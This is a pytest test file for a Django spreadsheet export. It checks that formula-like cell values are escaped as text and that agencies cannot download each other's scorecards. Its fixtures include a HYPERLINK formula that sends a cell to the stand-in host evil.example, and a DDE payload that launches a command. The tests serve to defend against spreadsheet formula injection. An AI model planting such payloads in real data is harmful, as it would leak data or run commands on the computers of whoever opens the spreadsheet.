"""Spreadsheets never carry a live formula from the data; an agency's officer cannot download
another agency's scorecard line."""

import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from exports.xlsx import csv_text, looks_like_formula

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://evil.example/?leak="&B2,"x")'


def download(client, kind, **params):
    response = client.get(reverse("exports:spreadsheet", args=[kind]), params)
    assert response.status_code == 200, response.status_code
    return load_workbook(io.BytesIO(b"".join(response.streaming_content)))


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_every_formula_start_is_recognised(start):
    assert looks_like_formula(f"{start}1+1")
    assert csv_text(f"{start}1+1") == f"'{start}1+1"
    assert csv_text("Công an tỉnh") == "Công an tỉnh" and csv_text(-5) == -5


def test_a_task_title_is_exported_as_text_not_a_formula(client, make_task, secretariat):
    make_task(title=EVIL)
    client.force_login(secretariat)
    workbook = download(client, "tasks")
    cells = [c for row in workbook.worksheets[0].iter_rows(min_row=2) for c in row]
    evil = [c for c in cells if isinstance(c.value, str) and c.value.startswith("=HYPERLINK")]
    assert evil, "the title is in the export"
    assert all(c.data_type == "s" and c.quotePrefix for c in evil)


def test_a_directive_subject_and_a_search_are_exported_as_text(client, make_task, secretariat):
    task = make_task()
    task.directive.subject = "+cmd|' /C calc'!A0"
    task.directive.save()
    client.force_login(secretariat)
    workbook = download(client, "directives", q="=1+2")
    values = [
        (c.value, c.data_type)
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for c in row
        if isinstance(c.value, str) and c.value[:1] in "=+"
    ]
    assert values and all(kind == "s" for _, kind in values)


def test_an_officer_cannot_take_another_agencys_scorecard_line(
    client, make_task, officer, border_guard
):
    make_task()
    client.force_login(officer)
    other = client.get(
        reverse("exports:spreadsheet", args=["scorecards"]), {"agency": border_guard.code}
    )
    assert other.status_code == 404  # as the PDF answers
    own = download(client, "scorecards", agency=officer.agency.code)
    names = [row[0] for row in own.worksheets[0].iter_rows(min_row=2, values_only=True)]
    assert names and all(border_guard.name not in str(name) for name in names)
